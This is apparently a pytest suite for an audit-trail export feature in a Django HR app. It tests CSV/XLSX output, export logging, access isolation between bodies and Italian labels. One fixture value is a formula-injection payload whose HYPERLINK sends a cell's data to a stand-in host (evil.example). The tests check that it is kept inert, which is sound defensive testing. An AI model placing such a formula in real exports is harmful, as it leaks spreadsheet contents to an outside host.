"""HR exports its body's trail as CSV or XLSX: the filtered entries, every text kept as text
(core/exports.py), and the export itself recorded."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from agilepa.audit import services as audit
from agilepa.audit.models import AuditEntry

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Apri")'


@pytest.fixture
def trail(world):
    audit.record("person.update", body=world.a.body, label=FORMULA, person=world.a.colleague)
    audit.record("unit.update", body=world.a.body, label="Servizio Anagrafe")
    audit.record("person.update", body=world.b.body, label="Foreign body")


def test_the_csv_holds_the_filtered_entries_with_formulas_as_text(world, trail, client_as) -> None:
    response = client_as("hr_admin").get(
        f"/b/{world.a.body.slug}/audit/export/", {"format": "csv", "action": "person.update"}
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    labels = [row[7] for row in rows[1:]]
    assert labels == ["'" + FORMULA]


def test_the_xlsx_keeps_a_formula_like_text_as_text(world, trail, client_as) -> None:
    response = client_as("hr_admin").get(
        f"/b/{world.a.body.slug}/audit/export/", {"format": "xlsx"}
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[7] for row in sheet.iter_rows(min_row=2)]
    # The world's own setup (its units) is in the trail too.
    assert {FORMULA, "Servizio Anagrafe"} <= {c.value for c in cells}
    assert all(c.data_type == "s" for c in cells)


def test_an_export_is_itself_recorded(world, trail, client_as) -> None:
    client_as("hr_admin").get(
        f"/b/{world.a.body.slug}/audit/export/", {"format": "csv", "actor": "hr@"}
    )
    export = AuditEntry.objects.get(action="audit.export")
    assert export.body_id == world.a.body.pk
    assert export.actor_label == "hr@a.it"
    assert export.changes == {"format": "csv", "filters": {"actor": "hr@"}, "rows": 0}


def test_another_bodys_hr_cannot_export_this_bodys_trail(world, trail, client_as) -> None:
    response = client_as("hr_admin").get(f"/b/{world.b.body.slug}/audit/export/")
    assert response.status_code == 404
    assert not AuditEntry.objects.filter(action="audit.export").exists()


def test_the_trail_says_what_was_exported_in_the_readers_language(world, client_as) -> None:
    """An export's entry records its kind in English; an Italian reader reads it in Italian,
    with the names of what was recorded (route, what, filters) in Italian too."""
    from django.urls import reverse

    from tests.factories import make_planned_month

    plan = make_planned_month(world.a)
    hr = client_as("hr_admin", HTTP_ACCEPT_LANGUAGE="it")
    body = world.a.body.slug
    assert hr.get(reverse("planning:export", args=[body, plan.pk])).status_code == 200
    entry = AuditEntry.objects.get(action="export", object_id=str(plan.pk))
    assert entry.changes["what"] == "month plan"
    html = hr.get(reverse("audit:body", args=[body]), {"action": "export"}).content.decode()
    assert "piano mensile" in html and "month plan" not in html
    for label in ("percorso", "che cosa", "filtri"):
        assert f'<span class="fw-semibold">{label}</span>' in html, label
